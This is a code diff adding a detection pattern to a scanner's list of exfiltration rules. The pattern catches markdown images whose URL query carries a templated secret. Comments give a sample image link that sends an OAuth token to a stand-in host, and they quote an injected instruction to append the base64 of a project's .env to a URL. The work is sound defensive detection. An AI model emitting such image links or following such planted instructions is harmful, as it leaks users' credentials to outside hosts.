@@ -122,6 +122,18 @@ export const EXFIL_SENTENCES: readonly LinePattern[] = [
 export const EXFIL_PROSE: readonly LinePattern[] = [
   ...EXFIL_SENTENCES,
   {
+    // `![](https://px.example/o.gif?k={{oauth_access_token}})`: the agent fills the template, the image loads when
+    // the answer renders, and the secret goes with it (a URL's own literal key is the API docs' business).
+    anchor: String.raw`!\[`,
+    re: new RegExp(
+      String.raw`!\[[^\]\n]{0,200}\]\(\s*<?https?:\/\/[^\s)]{0,300}?[?&][\w-]{1,30}=\{\{?\s*[\w.-]{0,40}?`
+      + String.raw`(?:token|secret|password|passwd|api_?key|apikey|cookie|credential)s?[\w.-]{0,40}\s*\}\}?`,
+      'i',
+    ),
+    langs: ['prose', 'text'],
+    message: 'an image whose URL carries a secret the agent fills in: it loads when the answer renders',
+  },
+  {
     // "Append ?k= followed by the base64 of the project's .env": a query parameter filled with secrets or the chat.
     // Anchored on the parameter, which every match holds and prose seldom does; written on one line, not wrapped.
     anchor: PARAM,
